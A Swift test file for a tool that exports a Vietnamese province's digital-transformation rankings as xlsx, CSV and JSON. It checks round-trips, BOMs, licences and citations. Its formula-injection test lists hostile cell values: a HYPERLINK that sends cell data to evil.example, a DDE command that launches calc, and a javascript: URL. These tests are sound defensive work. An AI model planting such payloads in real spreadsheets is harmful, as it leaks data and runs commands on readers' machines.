import Foundation
import Testing
@testable import DTIKit

/// The open data dti writes for spreadsheets: workbooks that read back,
/// CSV with a BOM, hostile names kept inert, the licence and citations.
@Suite("Open data for spreadsheets")
struct WorkbookWriterTests {
    static let hostileNames = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")", "+1 Sở Cộng", "-1 Sở Trừ", "@SUM(1+1)*cmd|' /C calc'!A0"]

    /// The minimal content with units whose names are formulas, in CSV.
    static func hostileContent() -> String {
        let root = TestSupport.temporaryDirectory("dti-injection")
        var files = TestSupport.minimalContent
        var csv = "STT,Tên đơn vị,Nhận thức,Chính quyền số,Tổng điểm\n"
        for (i, name) in hostileNames.enumerated() { csv += "\(i + 1),\"\(name.replacingOccurrences(of: "\"", with: "\"\""))\",\(30 + i),-\(i + 1),\(29)\n" }
        files["rankings/2022/so.csv"] = csv
        TestSupport.write(files, under: root)
        return root
    }

    @Test("A workbook dti writes reads back through dti's own reader with the CSV's values, and loads as a ranking again")
    func readsBackInDTI() throws {
        let site = SiteTestSupport.bundled
        for group in ["so-ban-nganh", "tinh-thanh-pho", "ubnd-huyen", "nganh-doc"] {
            let workbook = try #require(FileSystem.read(site + "/du-lieu/xep-hang/2022/\(group).xlsx"))
            let read = try WorkbookTableReader.read(workbook, file: "x.xlsx", sheet: nil, range: nil)
            #expect(read.sheet == "Xếp hạng")
            let csv = try CSVReader.parse(try #require(FileSystem.read(site + "/du-lieu/xep-hang/2022/\(group).csv")), file: "x.csv")
            #expect(read.table.rows.count == csv.rows.count)
            let column = Dictionary(uniqueKeysWithValues: csv.header.cells.enumerated().map { ($1.text, $0) })
            for (row, csvRow) in zip(read.table.rows, csv.rows) {
                #expect(row.cells[0].text == csvRow.cells[column["rank"]!].text)
                #expect(row.cells[1].text == csvRow.cells[column["name"]!].text)
                // Every published number of the CSV is in the workbook's row with the same digits.
                let numbers = csvRow.cells.dropFirst(6).map(\.text).filter { PublishedNumber.parse($0) != nil }
                let texts = row.cells.map(\.text)
                for number in numbers { #expect(texts.contains(number), "\(group) \(csvRow.line): \(number) not in \(texts)") }
            }
        }
        // Put back into Content/ in place of its CSV, the workbook loads as the same table.
        let root = TestSupport.temporaryDirectory("dti-roundtrip") + "/Content"
        TestSupport.copy(TestSupport.bundledContent, to: root)
        try FileManager.default.removeItem(atPath: root + "/rankings/2022/so-ban-nganh.csv")
        try FileManager.default.copyItem(atPath: site + "/du-lieu/xep-hang/2022/so-ban-nganh.xlsx", toPath: root + "/rankings/2022/so-ban-nganh.xlsx")
        let (content, diagnostics) = ContentLoader.load(from: root)
        let (original, _) = ContentLoader.load(from: TestSupport.bundledContent)
        #expect(!diagnostics.hasErrors, "\(diagnostics.errors)")
        let again = try #require(content?.rankings.first { $0.id == "2022/so-ban-nganh" })
        let before = try #require(original?.rankings.first { $0.id == "2022/so-ban-nganh" })
        #expect(again.rows.map(\.name) == before.rows.map(\.name))
        #expect(again.rows.map { $0.scores.map { $0?.text } } == before.rows.map { $0.scores.map { $0?.text } })
        #expect(again.rows.map { $0.total?.text } == before.rows.map { $0.total?.text })
        #expect(again.rows.map(\.classLabel) == before.rows.map(\.classLabel))   // `TB` is written out as `Trung bình`
        #expect(again.rows.map { $0.rank?.value } == before.rows.map { $0.rank?.value })
    }

    @Test("Workbooks are byte-identical from one build to the next, and SHA256SUMS lists them")
    func deterministic() throws {
        let (again, _) = SiteTestSupport.build()
        let bundled = SiteTestSupport.bundled
        let workbooks = SiteTestSupport.files(bundled).filter { $0.hasSuffix(".xlsx") }
        #expect(workbooks.count == 6)
        let sums = SiteTestSupport.text(bundled, "du-lieu/SHA256SUMS")
        for path in workbooks {
            let bytes = try #require(FileSystem.read(bundled + "/" + path))
            #expect(FileSystem.read(again + "/" + path) == bytes, "\(path)")
            #expect(sums.contains(SHA256.hex(bytes) + "  " + path.dropFirst("du-lieu/".count)))
            #expect(bytes.starts(with: [0x50, 0x4B, 0x03, 0x04]))
        }
        let page = SiteTestSupport.text(bundled, "du-lieu/index.html")
        #expect(page.contains("href=\"../du-lieu/xep-hang/2022/so-ban-nganh.xlsx\" download=\"\">Excel</a>"))
        #expect(SiteTestSupport.text(bundled, "xep-hang/2022/so-ban-nganh/index.html").contains("so-ban-nganh.xlsx\" download=\"\">Excel</a>"))
        #expect(MIMEType.forPath("du-lieu/xep-hang/2022/so.xlsx") == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    }

    @Test("Every CSV download starts with a UTF-8 BOM; the rest is as before")
    func byteOrderMark() throws {
        let site = SiteTestSupport.bundled
        let csvs = SiteTestSupport.files(site).filter { $0.hasSuffix(".csv") }
        #expect(csvs.count == 6)
        for path in csvs {
            let bytes = try #require(FileSystem.read(site + "/" + path))
            #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF, UInt8(ascii: "p")]), "\(path)")
            #expect(!bytes.dropFirst(3).contains(0xEF) || path.contains("xep-hang"), "\(path)")
        }
    }

    @Test("Hostile names never run as formulas: a leading ' in CSV, string cells with Excel's quote prefix in xlsx, values intact")
    func formulaInjection() throws {
        let (site, report) = SiteTestSupport.build(content: Self.hostileContent())
        #expect(report.succeeded, "\(report.diagnostics.report())")
        let csv = try CSVReader.parse(try #require(FileSystem.read(site + "/du-lieu/xep-hang/2022/so.csv")), file: "so.csv")
        let names = csv.rows.map { $0.cells[5].text }
        #expect(Set(names) == Set(Self.hostileNames.map { "'" + $0 }))
        // Numbers are numbers: a score of -1 is not touched.
        #expect(csv.rows.contains { $0.cells.contains { $0.text == "-1" } })
        let workbook = try #require(FileSystem.read(site + "/du-lieu/xep-hang/2022/so.xlsx"))
        let table = try WorkbookTableReader.read(workbook, file: "so.xlsx", sheet: nil, range: nil).table
        #expect(Set(table.rows.map { $0.cells[1].text }) == Set(Self.hostileNames))
        let archive = try ZIPArchive(bytes: workbook)
        let sheet = String(decoding: try archive.contents(of: "xl/worksheets/sheet1.xml"), as: UTF8.self)
        #expect(!sheet.contains("<f>"))
        #expect(sheet.components(separatedBy: " s=\"2\" t=\"inlineStr\"").count - 1 == Self.hostileNames.count)
        #expect(String(decoding: try archive.contents(of: "xl/styles.xml"), as: UTF8.self).contains("quotePrefix=\"1\""))
        if let sheets = try Openpyxl.read(site + "/du-lieu/xep-hang/2022/so.xlsx") {
            let cells = sheets[0].rows.dropFirst().map { $0[1] }
            #expect(Set(cells.compactMap { $0.value as? String }) == Set(Self.hostileNames))
            #expect(cells.allSatisfy { $0.type == "s" && $0.quotePrefix })
            #expect(sheets[0].rows[1][0].type == "n")
        }
    }

    @Test("The test for formula-looking text: OWASP's characters, tab and CR included; ordinary text untouched")
    func safetyRule() {
        for text in ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"] {
            #expect(SpreadsheetSafety.looksLikeFormula(text), "\(text.debugDescription)")
            #expect(SpreadsheetSafety.csvText(text) == "'" + text)
        }
        for text in ["Sở Tư pháp", "UBND huyện Châu Thành A", "", "1=1", "Xuất sắc", " =1"] {
            #expect(SpreadsheetSafety.csvText(text) == text)
        }
        let bytes = WorkbookWriter(title: "t", author: nil, sheets: [WorkbookWriter.Sheet(name: "A", rows: [
            [.text("h"), .text("i")], [.text("\t=1")], [.text("\r\u{1}x_x0041_<&>\"")], [.published(PublishedNumber.parse("1234567890.1234567"))],
        ])]).bytes()
        let read = try? WorkbookTableReader.read(bytes, file: "t.xlsx", sheet: nil, range: nil).table
        #expect(read?.rows.map { $0.cells[0].text } == ["\t=1", "\r\u{1}x_x0041_<&>\"", "1234567890.1234567"])
    }

    @Test("The licence: CC BY 4.0 by default, another by name or as `Tên | URL`, shown on the open-data page and in every JSON")
    func license() throws {
        let bundled = SiteTestSupport.bundled
        let page = SiteTestSupport.text(bundled, "du-lieu/index.html")
        #expect(page.contains("<a href=\"https://creativecommons.org/licenses/by/4.0/\" rel=\"license\">Creative Commons Ghi công 4.0 Quốc tế (CC BY 4.0)</a>"))
        #expect(page.contains("JSON: license"))
        for path in ["du-lieu/xep-hang/2022/so-ban-nganh.json", "du-lieu/don-vi/so-tu-phap.json", "du-lieu/index.json"] {
            let json = try #require(try JSONSerialization.jsonObject(with: Data(FileSystem.read(bundled + "/" + path)!)) as? [String: Any])
            let license = try #require(json["license"] as? [String: Any], "\(path)")
            #expect(license["url"] as? String == "https://creativecommons.org/licenses/by/4.0/" && license["id"] as? String == "CC-BY-4.0")
        }
        #expect(DataLicense.parse("cc by-sa 4.0") == .success(DataLicense(name: "Creative Commons Ghi công – Chia sẻ tương tự 4.0 Quốc tế (CC BY-SA 4.0)",
                                                                          url: "https://creativecommons.org/licenses/by-sa/4.0/", identifier: "CC-BY-SA-4.0")))
        #expect(DataLicense.parse("Giấy phép dữ liệu mở tỉnh | https://stttt.example.gov.vn/giay-phep") == .success(DataLicense(name: "Giấy phép dữ liệu mở tỉnh", url: "https://stttt.example.gov.vn/giay-phep")))
        #expect(DataLicense.parse("Tự do | javascript:alert(1)") == .failure(.badURL("javascript:alert(1)")))

        let root = TestSupport.temporaryDirectory()
        var files = TestSupport.minimalContent
        files["site.conf"]! += "license = ODbL\n"
        TestSupport.write(files, under: root)
        let (site, report) = SiteTestSupport.build(content: root)
        #expect(report.succeeded)
        #expect(SiteTestSupport.text(site, "du-lieu/xep-hang/2022/so.json").contains("\"license\":{\"name\":\"Open Data Commons Open Database License 1.0 (ODbL)\",\"url\":\"https://opendatacommons.org/licenses/odbl/1-0/\",\"id\":\"ODbL-1.0\"}"))
        let bad = TestSupport.temporaryDirectory()
        files["site.conf"] = TestSupport.minimalContent["site.conf"]! + "license = x | ftp://y\n"
        TestSupport.write(files, under: bad)
        #expect(ContentLoader.load(from: bad).1.errors.first?.message == "địa chỉ giấy phép phải bắt đầu bằng http:// hoặc https://, nhận được `ftp://y`")
    }

    @Test("“Trích dẫn” on each ranking page and each unit page")
    func citations() {
        let site = SiteTestSupport.bundled
        let ranking = SiteTestSupport.text(site, "xep-hang/2022/so-ban-nganh/index.html")
        #expect(ranking.contains("<p class=\"citation\"><strong>Trích dẫn: </strong>Nguồn: Hội đồng đánh giá, xếp hạng mức độ chuyển đổi số tỉnh Hậu Giang, “Điểm số chỉ số chuyển đổi số cấp sở, ban, ngành tỉnh năm 2022”, Chỉ số chuyển đổi số tỉnh Hậu Giang, https://dti.haugiang.gov.vn/xep-hang/2022/so-ban-nganh/, truy cập ngày …/…/….<span class=\"muted\"> (thay …/…/… bằng ngày bạn truy cập)</span></p>"))
        let unit = SiteTestSupport.text(site, "don-vi/so-tu-phap/index.html")
        #expect(unit.contains("Nguồn: Hội đồng đánh giá, xếp hạng mức độ chuyển đổi số tỉnh Hậu Giang, “Kết quả chuyển đổi số: Sở Tư pháp”, Chỉ số chuyển đổi số tỉnh Hậu Giang, https://dti.haugiang.gov.vn/don-vi/so-tu-phap/, truy cập ngày …/…/…."))
    }
}
